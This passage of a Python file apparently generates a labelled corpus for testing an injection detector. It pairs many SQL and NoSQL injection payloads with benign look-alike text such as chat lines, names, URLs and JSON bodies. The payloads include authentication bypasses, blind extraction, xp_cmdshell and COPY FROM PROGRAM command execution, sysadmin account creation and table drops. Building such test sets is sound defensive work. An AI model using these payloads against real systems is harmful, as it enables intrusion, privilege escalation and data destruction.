    # MySQL: the password compared with a string that is zero
    "' or password=0#",
]

# ----------------------------------------------------------------------------------------------------------------
# nosql-injection: MongoDB query operators reaching find() (Express/PHP bracket parsing, a JSON body passed as
# the filter) and server-side JavaScript in $where
NOSQL: list[Entry] = [
    # whole JSON bodies (Node.js/Express passing req.body to find())
    ('{"username":"admin","password":{"$ne":null}}',) + JB,
    ('{"username":{"$gt":""},"password":{"$gt":""}}',) + JB,
    ('{"username":"admin","password":{"\\u0024ne":"x"}}',) + JB,
    ('{"username":{"\\u0024regex":"^adm"},"password":{"\\u0024ne":""}}',) + JB,
    ('{"username":"admin","password":{"$regex":"^a.*"}}',) + JB,
    ('{"username":{"$in":["admin","root","administrator"]},"password":{"$nin":[""]}}',) + JB,
    ('{"username":"admin","password":{"$exists":true}}',) + JB,
    ('{"$or":[{"username":"admin"},{"username":{"$ne":null}}],"password":{"$ne":null}}',) + JB,
    ('{"username":"admin","$where":"this.password.length>0"}',) + JB,
    ('{"$where":"sleep(5000)||true"}',) + JB,
    ('{"username":"admin","password":{"$not":{"$eq":"x"}}}',) + JB,
    ('{"username":"admin","password":{"$gte":" "}}',) + JB,
    ('{"$expr":{"$eq":[1,1]},"username":"admin"}',) + JB,
    ('{"username":"admin","password":{"$regex":".","$options":"s"}}',) + JB,
    # bracket syntax in a form body (PHP arrays, Express `qs`)
    ("username=admin&password[$ne]=x",) + KV,
    ("username[$gt]=&password[$gt]=",) + KV,
    ("username=admin&password[%24ne]=x",) + KV,
    ("username[$regex]=^adm&password[$ne]=1",) + KV,
    ("username=admin&password[$exists]=true",) + KV,
    ("username[$in][]=admin&username[$in][]=root&password[$ne]=x",) + KV,
    ("$where=this.password.match(/^a/)",) + KV,
    # the operator in the parameter's name
    ("password[$ne]",) + PN,
    # string concatenated into a $where JavaScript expression
    "admin' && this.password.match(/^a/) || 'a'=='b",
    "'||'1'=='1",
    "1'||sleep(5000)||'",
    # a JSON filter in one parameter (JSON.parse(req.query.filter))
    '{"$where":"sleep(5000)"}',
    '{"username":{"$regex":"^a"},"password":{"$ne":1}}',
    '{"role":{"$ne":"user"}}',
]

# ----------------------------------------------------------------------------------------------------------------
# hex-char-encoding: strings and whole statements as hex, bit, char/chr/nchar, unicode-escape and base64 literals
ENCODING: list[Entry] = [
    # MySQL
    "1' and user() like 0x726f6f7425#",
    "-1' union select 1,password from users where username=unhex('61646d696e')#",
    "-1' union select 1,password from users where username=char(97,100,109,105,110)#",
    "-1' union select 1,password from users where username=x'61646d696e'#",
    "-1' union select 1,password from users where username=b'0110000101100100011011010110100101101110'#",
    "-1' union select 1,password from users where username=_utf8mb4 0x61646d696e#",
    "-1' union select 1,password from users where username=convert(0x61646d696e using utf8mb4)#",
    "-1' union select 1,password from users where hex(username)='61646D696E'#",
    "-1' union select 1,password from users where username=from_base64('YWRtaW4=')#",
    "-1' union select 1,password from users where username=concat(char(97),char(100),char(109),char(105),char(110))#",
    "1';set @q=0x73656c65637420736c656570283529;prepare s from @q;execute s;#",
    # PostgreSQL
    "1' and current_user=chr(112)||chr(111)||chr(115)||chr(116)||chr(103)||chr(114)||chr(101)||chr(115)--",
    "1' and current_user=convert_from(decode('706f737467726573','hex'),'utf8')--",
    "1' and current_user=U&'\\0070\\006fstgres'--",
    "1' and current_user=E'\\x70ostgres'--",
    "1' and current_user=convert_from(decode('cG9zdGdyZXM=','base64'),'utf8')--",
    "1';do $$begin execute convert_from(decode('ZHJvcCB0YWJsZSBzZXNzaW9ucw==','base64'),'utf8');end$$--",
    # SQL Server
    "1';declare @q nvarchar(200)=0x770061006900740066006f0072002000640065006c00610079002000270030003a0030003a0035002700"
    ";exec(@q)--",
    "1';declare @q varchar(99)=0x64726f70207461626c65206c6f6773;exec(@q)--",
    "1' and system_user=char(115)+char(97)--",
    "1' and db_name()=nchar(109)+nchar(97)+nchar(115)+nchar(116)+nchar(101)+nchar(114)--",
    # Oracle
    "1' and user=chr(83)||chr(89)||chr(83)--",
    "1' and user=utl_raw.cast_to_varchar2(hextoraw('535953'))--",
    "1' and user=unistr('\\0053YS')--",
    # SQLite: a blob cast to text, char()
    "-1' union select 1,password from users where username=cast(x'61646d696e' as text)--",
    "-1' union select 1,password from users where username=char(97,100,109,105,110)--",
    # JSON body (MySQL): the quote as a \u escape, the value as hex
    ('{"email":"a@example.org","name":"-1\\u0027 union select 1,password from users where username=0x61646d696e#"}',)
    + JB,
    # XML body (MySQL): the function's first letter as a character reference
    ("<user><id>-1 union select 1,password from users where username=&#99;har(97,100,109,105,110)</id></user>",)
    + XD,
]

# ----------------------------------------------------------------------------------------------------------------
# stored-procedure-xp-cmdshell: command execution through the database's procedures (SQL Server first)
PROC: list[Entry] = [
    # SQL Server
    "1';exec master..xp_cmdshell 'whoami'--",
    "1';exec xp_cmdshell 'ping -n 1 oob.example'--",
    "1';exec sp_configure 'show advanced options',1;reconfigure;exec sp_configure 'xp_cmdshell',1;reconfigure--",
    "1';exec('xp_cm'+'dshell ''whoami''')--",
    "1';declare @c varchar(50)='xp_'+'cmdshell';exec @c 'whoami'--",
    "1';exec master.dbo.xp_cmdshell 'powershell -enc dwBoAG8AYQBtAGkA'--",
    "1';EXEC [master].[dbo].[xp_cmdshell] 'whoami'--",
    "1';eXeC mAsTeR..Xp_CmDsHeLl 'hostname'--",
    "1';declare @o int;exec sp_oacreate 'wscript.shell',@o out;exec sp_oamethod @o,'run',null,"
    r"'cmd /c whoami > c:\inetpub\wwwroot\o.txt'--",
    "1';exec sp_execute_external_script @language=N'Python',@script=N'import os;os.system(\"whoami\")'--",
    "1';exec sp_addlogin 'eve','P@ssw0rd1';exec sp_addsrvrolemember 'eve','sysadmin'--",
    r"1';exec master..xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\CurrentControlSet\Services\MSSQLSERVER',"
    "'ObjectName'--",
    "1';exec xp_servicecontrol 'start','schedule'--",
    "1';exec('EXEC master..xp_cmdshell ''whoami''') at [linkedsrv]--",
    "1';select * from openquery([linkedsrv],'select 1;exec master..xp_cmdshell ''whoami''')--",
    "1';declare @q varchar(99)=0x65786563206d61737465722e2e78705f636d647368656c6c202777686f616d6927;exec(@q)--",
    # PostgreSQL: COPY FROM PROGRAM, an untrusted language function
    "1';create table o(t text);copy o from program 'id';select * from o--",
    "1';create function r() returns text as $$return `id`;$$ language plperlu;select r()--",
    # MySQL with lib_mysqludf_sys loaded
    "1';select sys_exec('id')#",
    "1' and sys_eval('id')#",
    # Oracle: Java wrapper, DBMS_XMLQUERY running a PL/SQL block
    "1' and dbms_java.runjava('oracle/aurora/util/Wrapper /bin/sh -c id') is not null--",
    "1' and (select dbms_xmlquery.newcontext('declare pragma autonomous_transaction;begin execute immediate "
    "''grant dba to public'';commit;end;') from dual) is not null--",
    # JSON body (SQL Server): a letter of the procedure and the quotes as \u escapes
    ('{"email":"a@example.org","name":"1\\u0027;exec master..xp_\\u0063mdshell \\u0027whoami\\u0027--"}',) + JB,
    # XML body (SQL Server): underscore and quotes as character references
    ("<user><id>1;exec master..xp&#95;cmdshell &#39;whoami&#39;</id></user>",) + XD,
    # percent-encoded raw body (SQL Server)
    ("id=1%3Bexec%20master..xp_cmdshell%20%27whoami%27--",) + KV,
    # NFKC-normalising app in front of SQL Server
    fw("1;exec xp_cmdshell 'whoami'--"),
    # upload name stored by an INSERT (SQL Server): close the VALUES list, then the procedure
    ("x.png');exec master..xp_cmdshell 'whoami'--",) + FN,
]

# ----------------------------------------------------------------------------------------------------------------
# having-group-order-by-probing: column counts, column names and blind conditions through ORDER BY / GROUP BY /
# HAVING, and sort parameters that go into ORDER BY unquoted
ORDER: list[Entry] = [
    # MySQL: column-count probing
    "1' order by 3#",
    "1' order by 10-- -",
    "1' group by 1,2,3#",
    "1' order by/**/3#",
    "1'/*!50000order*//*!50000by*/4#",
    "1' order by 1 asc,2 desc,3-- -",
    "1' limit 1 into @a,@b,@c#",
    "1' having 1=1#",
    # MySQL: a condition that decides between a valid order and an error
    "1' order by if(1=1,1,(select 1 union select 2))#",
    "1' group by concat(version(),floor(rand(0)*2)) having min(0)#",
    "1 limit 1 procedure analyse(extractvalue(1,concat(0x7e,version())),1)",
    # sort parameters (MySQL): the value is the ORDER BY expression
    "if(1=1,username,email)",
    "rand(1=1)",
    "id,(select extractvalue(1,concat(0x7e,user())))",
    "(case when (select 1)=1 then id else 1/0 end)",
    "id desc,(select sleep(5))",
    # SQL Server: HAVING without GROUP BY names the columns in the error
    "' having 1=1--",
    "' group by users.id having 1=1--",
    "' group by users.id,users.username having 1=1--",
    # PostgreSQL: division by zero decides
    "1' order by (select case when (1=1) then 1 else 1/0 end)--",
    "1' order by (case when substring(current_user,1,1)='p' then username else email end)--",
    "1' group by 1,2,3,4 having count(*)>0--",
    # Oracle sort parameter
    "(select case when (select substr(user,1,1) from dual)='S' then username else email end from dual)",
    # JSON body (MySQL): the keyword's first letter as a \u escape
    ('{"email":"a@example.org","name":"1\\u0027 \\u006frder by 5#"}',) + JB,
    # XML body (MySQL sort field): letters as character references
    ("<user><sort>id,(s&#101;lect sl&#101;ep(5))</sort></user>",) + XD,
    # percent-encoded raw body (MySQL sort parameter)
    ("sort=if%281%3D1%2Cusername%2Cemail%29&order=asc",) + KV,
    # NFKC-normalising app in front of MySQL
    fw("1' order by 5#"),
    # the sort column from a parameter name (`?sort[<column>]=asc`, MySQL)
    ("sort[if(1=1,id,email)]",) + PN,
]

# ----------------------------------------------------------------------------------------------------------------
# like-between-in-operators: comparisons without `=`, `<` or `>` for blind extraction
OPERATORS: list[Entry] = [
    # MySQL
    "1' and user() like 'root%'#",
    "1' and user() like binary 'r%'#",
    "1' and database() like 'a_%'#",
    "1' and substr(user(),1,1) between 'q' and 's'#",
    "1' and ascii(mid(user(),1,1)) between 110 and 120#",
    "1' and mid(user(),1,1) in ('r','s')#",
    "1' and mid(user(),1,1) not in ('a','b')#",
    "1' and user() regexp '^ro'#",
    "1' and user() rlike binary '^r'#",
    "1' and 114 in (ascii(mid(user(),1,1)))#",
    "1' and greatest(ascii(mid(user(),1,1)),113)=113#",
    "1' and (select password from users where username='admin') like '5f%'#",
    "1' and (select count(*) from users where password like 'a%')>0#",
    "1' and 'a' in (select left(password,1) from users where id=1)#",
    # PostgreSQL
    "1' and current_user ilike 'POST%'--",
    "1' and current_user similar to 'p%'--",
    "1' and current_user ~* '^p'--",
    "1' and current_user = any(array['postgres','admin'])--",
    # SQL Server
    "1' and system_user like 's[a-z]%'--",
    "1' and db_name() in ('master','msdb')--",
    "1' and ascii(substring(db_name(),1,1)) between 100 and 120--",
    # Oracle, SQLite
    "1' and user in (select username from all_users where username like 'SYS%')--",
    "1' and sqlite_version() glob '3.*'--",
    "1' and sqlite_version() like '3.%'--",
    # JSON body (MySQL): operator letter and quotes as \u escapes
    ('{"email":"a@example.org","name":"1\\u0027 and user() \\u006cike \\u0027root%\\u0027#"}',) + JB,
    # XML body (MySQL): `&&` as entities
    ("<user><id>1 and ascii(substring(user(),1,1)) between 110 and 120 &amp;&amp; 1</id></user>",) + XD,
    # percent-encoded raw body (MySQL)
    ("id=1%27+and+user%28%29+like+%27root%25%27%23",) + KV,
    # NFKC-normalising app in front of MySQL
    fw("1' and user() like 'root%'#"),
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJECTION),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYCOMMENT),
    ("sqli", "function-based-probing", FUNCTION),
    ("sqli", "sql-authentication-bypass", AUTH),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", ENCODING),
    ("sqli", "stored-procedure-xp-cmdshell", PROC),
    ("sqli", "having-group-order-by-probing", ORDER),
    ("sqli", "like-between-in-operators", OPERATORS),
]
# already percent-encoded `name=value` bodies: sent unquoted in the admin form and as the raw body
RAW_BODIES = {e[0] for _, _, entries in FAMILIES for e in entries if isinstance(e, tuple) and e[1] == "form"}


# ----------------------------------------------------------------------------------------------------------------
# Placements
class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    names = ["id", "q", "username", "password", "sort", "filter", "email", "name", "search", "order"]
    kv_safe = "=&[]._-:/'*$!(),;{}~@%+^|#"
    raw_places = ("form",)
    documents = True
    unique = True
    path_forbids = "/?#"
    raw_body_forbids = "&%+"
    raw_body_pair = True
    xml_controls = ""

    def is_raw(self, sub: str, payload: str, fixed: bool) -> bool:
        return fixed and payload in RAW_BODIES


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same syntax and encodings, typed innocently (Slack chat and bios of engineers, support agents and
# Japanese/Chinese colleagues, directory searches, links, admin-panel searches, profiles, uploads, headers, and
# JSON bodies from clients that escape non-ASCII characters as \u sequences)
CHAT = [
    "anyone else seeing the sort dropdown reset after a refresh? 🙃",
    "pushed the fix for the Union Street address autocomplete, live in ~10 min",
    "PSA: the staging DB password rotated, grab the new one from the vault 🔐",
    "日本語の名前で検索できない件、全角スペースが原因でした。修正済みです",
    "ｔｅｓｔユーザーを作成しました、確認お願いします",
    "用户名里有全角字符（比如“张三”）的时候搜索会失败吗？",
    "the API returns names like \"Jos\\u00e9\" when ensure_ascii is on, the UI decodes it fine",
    "pasted from Confluence: &lt;b&gt;Release notes&lt;/b&gt; &amp; migration steps, the entities show up raw",
    "select count(*) from users where created_at > now() - interval '7 days' gives 412, matches the dashboard",
    "can someone review my PR? it swaps the raw string for session.execute(select(User).where(User.email == email))",
    "reminder: never build SQL with f-strings, use bind parameters 🙏",
    "the report groups by team and orders by signup date, tell me if you want it by region instead",
    "offsite quiz: if x + y = 10 and x - y = 4, what is x? 🧮",
    "the formula in the sheet is =SUMIF(B2:B40,\">100\",C2:C40), copy it to the Q3 tab",
    "dashboard: https://grafana.example.com/d/abc123/api?orgId=1&var-route=%2Fapi%2Fusers&from=now-24h",
    "I'm out tomorrow 🏖️ Priya covers on-call",
    "O'Connor and D'Angelo both reported the apostrophe bug in their last names, fixed in 4.2.1",
    "the CSV export uses ; as the separator for the German locale",
    "between 9 and 5 I'm in meetings, ping me after",
    "Mongo's $regex is slow without an index, anchor it with ^ so it can use one",
    "the docs example filter is {\"status\": {\"$in\": [\"active\", \"invited\"]}}, copy that",
    "percent-encoded spaces (%20) in the link broke the Jira macro again",
    "PostgreSQL 16 upgrade done, pg_stat_statements is back on",
    "can we sleep on it and decide Monday?",
    "Müller, Zoë and Łukasz had sign-up issues, the JSON body had \\u00fc and friends, that part is fine now",
    "emoji in display names work now 🎉👍",
    "sort=created_at&order=desc is what the mobile app sends for the newest-first list",
    "了解です！明日までに対応します🙇",
    "数据库备份已完成，明天早上检查一下",
    "SQL tip: WHERE name LIKE 'Mc%' finds McDonald and McKay",
    "the union meeting is on Thursday at 3pm, room B",
    "error was: relation \"users_old\" does not exist, someone renamed it in staging",
    "uuid column or char(36)? in Postgres I'd go with the native uuid type",
    "the ORM escapes quotes itself, O'Brien is stored as O'Brien, not O\\'Brien",
    "back at 14:00 ⏰",
    "the ticket HTML is &lt;p&gt;Hello&amp;nbsp;world&lt;/p&gt;, Zendesk double-escaped it",
    "benchmark results: p95 went from 180ms to 95ms after the index 📉",
    "waited about 20 minutes for the DNS change to propagate",
    "grep -rn 'TODO' app/ | wc -l says 37, not bad",
    "0.1 + 0.2 = 0.30000000000000004 in JS, the classic",
    "Tomás shows up as Tom\\u00e1s in the old CSV export because it escaped everything",
    "information_schema queries are slow on the replica, pg_catalog is faster",
    "sales update: 1,240 orders between July and September, up 12% 📈",
    "xkcd 327 (little Bobby Tables) is still the best intro to parameterised queries",
    "✅ migration 0042 applied to prod",
    "履歴書のPDFをアップロードしたらファイル名が文字化けしました（ＵＴＦ－８の問題？）",
    "the regex for order numbers is ^ORD-[0-9]{6}$, anything else is rejected",
    "in the README: run `make test`, then `make run` — don't skip the first one",
    "the 50% discount code expired yesterday, support will get questions",
    "who owns the like/unlike counter? it goes negative sometimes",
]

SEARCHES = [
    "o'brien", "d'arcy", "o’neill", "müller", "zoë", "josé garcía", "anne-marie", "jean-luc",
    "山田 太郎", "山田　太郎", "ｙａｍａｄａ", "李 伟", "王芳", "김민준", "łukasz", "ñandú",
    "🎉", "team 😀", "c++", "c#", "node.js", "50%", "100% remote", "at&t", "q&a", "r&d",
    "sales or marketing", "union street", "select committee", "order team", "sleep lab",
    "benchmark", "admin", "root", "devops", "#general", "@alice", "alice@example.org",
    "+44 20 7946 0958", "2024-06-01", "mcdonald's", "what's new", "drop-in", "1+1", "x=1",
    "between jobs", "in office", "like", "smith & sons", "hello world", "tom%20jones",
    "ＡＢＣ株式会社", "ｓａｌｅｓ", "niño", "françois", "straße",
]

URLS = [
    "https://www.google.com/search?q=%E5%B1%B1%E7%94%B0%E5%A4%AA%E9%83%8E",
    "https://ja.wikipedia.org/wiki/%E6%9D%B1%E4%BA%AC",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://www.postgresql.org/docs/current/functions-json.html",
    "https://dev.mysql.com/doc/refman/8.0/en/comments.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/functions/string-escape-transact-sql",
    "https://www.mongodb.com/docs/manual/reference/operator/query/regex/",
    "https://example.com/search?q=caf%C3%A9+au+lait&sort=price&order=asc",
    "https://shop.example.jp/items?name=%EF%BC%B4%EF%BC%B3%E3%82%B7%E3%83%A3%E3%83%84",
    "https://maps.example.com/?q=Union+Street,+San+Francisco",
    "https://github.com/example/app/pull/481#issuecomment-1234567",
    "https://docs.python.org/3/library/json.html#json.dumps",
    "https://www.w3.org/TR/html52/syntax.html#character-references",
    "https://unicode.org/reports/tr15/#Norm_Forms",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://example.org/files/R%C3%A9sum%C3%A9%20(final).pdf",
    "https://news.example.com/2024/06/01/why-we-moved-to-postgres/",
    "https://calendar.example.com/event?title=Q3%20planning%20%26%20review&tz=Asia%2FTokyo",
]

PROSE = [
    "O'Brien",
    "Robert'); the customer's name field had a stray bracket",
    "where did the \"select all\" checkbox go in the user list?",
    "users who signed up between June 1 and June 30",
    "accounts created in 2023 or 2024",
    "the word 'union' in a company name: Credit Union of Texas",
    "reset password for user with email containing +tag",
    "sort by last login, newest first",
    "group by department please",
    "customers having more than 5 orders",
    "name like Smith",
    "order #4521 was refunded",
    "x + y = 10",
    "formula: =AVERAGE(B2:B9)",
    "E = mc²",
    "a² + b² = c²",
    "3 > 2 and 2 < 3",
    "price >= 100 and price <= 500",
    "SELECT is in caps in the tooltip, make it lower case",
    "ＡＢＣ株式会社の担当者",
    "全角（ぜんかく）の括弧が入った名前",
    "张三（销售部）",
    "Zoë's account & billing",
    "&lt;div&gt; shows in the bio, looks like double escaping",
    "caf&eacute; shows instead of café",
    "Jos\\u00e9 shows instead of José",
    "the 1=1 placeholder in the report builder",
    "-- no reply from customer since Monday --",
    "/* internal note: escalate to tier 2 */",
    "#billing channel",
    "50% off for nonprofits",
    "wait for delay notice from the courier",
    "char limit on bio is 160",
    "hex color #ff8800 for the banner",
    "admin role for the new support lead",
    "drop off the badge at reception",
    "update: shipped on 6/3",
    "in stock between 10 and 20 units",
    "Mc% names",
    "🙂 smiley in the name breaks the badge printer",
]

PROFILES = [
    ("José García", "Calle Mayor 5, 28013 Madrid"),
    ("山田 太郎", "東京都千代田区丸の内1-1-1"),
    ("ＹＡＭＡＤＡ　Ｈａｎａｋｏ", "大阪府大阪市北区梅田２－４－９"),
    ("张伟", "北京市朝阳区建国路88号"),
    ("김민준", "서울특별시 강남구 테헤란로 152"),
    ("Zoë O'Connor", "12 Union Street, Cork"),
    ("Łukasz Nowak", "ul. Marszałkowska 10/12, 00-590 Warszawa"),
    ("Anne-Marie D'Arcy", "4 Rue de l'Église, 75004 Paris"),
    ("Jürgen Müller", "Königstraße 1, 70173 Stuttgart"),
    ("Dr. Ada Lovelace-King", "Flat 2/1, 10 Order Lane, Glasgow"),
    ("Chloé (Marketing) 🎨", "Via Roma 1, Milano"),
    ("Nguyễn Văn An", "123 Lê Lợi, Quận 1, TP. Hồ Chí Minh"),
    ("François Lefèvre", "8 Place de la Bourse, Bordeaux"),
    ("Sean O'Neill", "PO Box 42, Between Lakes Rd, Otago"),
    ("Ahmed Al-Sayed", "Apt #5, 7 Selection Ave, Dubai"),
    ("Mary-Jane Watson & Co.", "20 Ingram St, Forest Hills, NY 11375"),
    ("Renée Smith", "100 Like Street, Austin TX"),
    ("María José Peña", "Av. Corrientes 1234, 5º B, Buenos Aires"),
    ("高橋　美咲", "福岡県福岡市中央区天神２丁目"),
    ("Иван Петров", "ул. Тверская, 7, Москва"),
    ("Ole Ørsted", "Nørregade 3, 1165 København"),
    ("Siobhán Ní Bhriain", "Sráid na hOllscoile, Gaillimh"),
    ("Ana Lúcia", "Rua Augusta 50, Lisboa"),
    ("Tom \"TJ\" Jones", "1/2 Sleepy Hollow Rd, Tarrytown NY"),
]

UPLOAD_NAMES = [
    "履歴書_山田太郎.pdf",
    "見積書（最終版）.xlsx",
    "会议记录-2024年6月.docx",
    "report (final) v2.xlsx",
    "O'Brien contract.pdf",
    "Q3 sales & marketing.pptx",
    "résumé.docx",
    "Screenshot 2024-06-01 at 10.15.32.png",
    "select_committee_minutes.docx",
    "union-agreement-2024.pdf",
    "schema.sql",
    "backup_2024-06-01.sql.gz",
    "data[1].csv",
    "notes #3.txt",
    "50% off flyer.png",
    "🎉 party.jpg",
    "ｉｎｖｏｉｃｅ＿００１.pdf",
    "order-by-region.csv",
    "IMG_0042.HEIC",
    "team photo (1).jpeg",
]

BENIGN_HEADERS = [
    ("Accept-Language", "ja-JP,ja;q=0.9,en-US;q=0.8"),
    ("Accept-Language", "zh-CN,zh;q=0.9"),
    ("Accept-Language", "ko-KR,ko;q=0.9,en;q=0.6"),
    ("Referer", "https://www.google.com/search?q=%E5%B1%B1%E7%94%B0+%E5%A4%AA%E9%83%8E"),
    ("Referer", "https://app.example.com/admin/users?sort=created_at&order=desc&page=2"),
    ("Referer", "https://app.example.com/admin/users/search?q=o%27brien"),
    ("Referer", "https://www.bing.com/search?q=union+street+cafe"),
    ("Referer", "https://stackoverflow.com/questions/60174/how-can-i-prevent-sql-injection-in-php"),
    ("Referer", "https://app.example.com/users?filter=%7B%22status%22%3A%22active%22%7D"),
    ("X-Request-Id", "7f0c2a1e-3b9d-4c55-8e21-5a6d9b0f4c33"),
    ("X-Api-Version", "2024-06-01"),
    ("X-Forwarded-For", "203.0.113.45"),
    ("Cookie", "session=abc123; lang=ja; tz=Asia%2FTokyo"),
    ("Cookie", "session=abc123; last_q=m%C3%BCller; sort=name"),
    ("Cookie", "session=abc123; prefs=%7B%22theme%22%3A%22dark%22%7D"),
    ("If-None-Match", "W/\"a1b2-18f0c3d4\""),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko)"
     " Version/17.5 Mobile/15E148 Safari/604.1"),
    ("User-Agent", "okhttp/4.12.0"),
    ("User-Agent", "python-requests/2.32.3"),
    ("Content-Language", "zh-Hans"),
]

# JSON bodies as clients write them: Python's json.dumps escapes non-ASCII (and emoji as surrogate pairs);
# .NET's System.Text.Json also escapes ', +, <, > and & as \u sequences
JSON_DOCS: list[dict[str, str]] = [
    {"name": "José García", "email": "jose@example.org", "address": "Calle Mayor 5, Madrid"},
    {"name": "山田 太郎", "email": "yamada@example.jp", "address": "東京都千代田区"},
    {"name": "ＹＡＭＡＤＡ　Ｈａｎａｋｏ", "email": "hanako@example.jp", "address": "大阪府"},
    {"name": "张伟", "email": "zhang.wei@example.cn", "address": "北京市朝阳区"},
    {"name": "Zoë 🎉", "email": "zoe@example.org", "address": "Union Street 12"},
    {"name": "Müller", "email": "mueller@example.de", "address": "Königstraße 1"},
    {"name": "Nguyễn Văn An", "email": "an@example.vn", "address": "Quận 1"},
    {"name": "Łukasz", "email": "lukasz@example.pl", "address": "Warszawa"},
    {"name": "Chloé ❤️", "email": "chloe@example.fr", "address": "Paris"},
    {"name": "Иван", "email": "ivan@example.ru", "address": "Москва"},
]
NET_BODIES = [
    '{"name":"O\\u0027Brien","email":"obrien@example.org","address":"12 Union St"}',
    '{"name":"D\\u0027Angelo","email":"dangelo@example.org","address":"Via Roma 1"}',
    '{"name":"Smith \\u0026 Sons","email":"info@example.org","address":"1 High St"}',
    '{"name":"Ann","email":"ann\\u002Bnews@example.org","address":"2 Low St"}',
    '{"name":"Ren\\u00E9e","email":"renee@example.org","address":"100 Like Street"}',
    '{"name":"\\u003Cb\\u003EBold\\u003C/b\\u003E Corp","email":"bold@example.org","address":"3 Main St"}',
    '{"name":"Sean O\\u0027Neill","email":"sean@example.ie","address":"Between Lakes Rd"}',
    '{"name":"\\u5C71\\u7530","email":"yamada2@example.jp","address":"\\u4EAC\\u90FD"}',
    '{"name":"Tom \\u0022TJ\\u0022 Jones","email":"tj@example.org","address":"Sleepy Hollow Rd"}',
    '{"name":"Q\\u0026A team","email":"qa@example.org","address":"Order Lane 10"}',
]


def json_bodies() -> Iterator[str]:
    for doc in JSON_DOCS:
        yield json.dumps(doc)
    yield from NET_BODIES


def benign() -> Iterator[dict[str, Any]]:
    n = 0
    for rec in SET.benign(NAME, CHAT, SEARCHES, URLS, PROSE, PROFILES, UPLOAD_NAMES, BENIGN_HEADERS):
        n += 1
        yield rec
    yield from numbered(({**_json("/api/users", {}), "body": body} for body in json_bodies()),
                        f"{NAME}-jsonbody", n, "json-body")


if __name__ == "__main__":
    print_records(attacks(), benign())
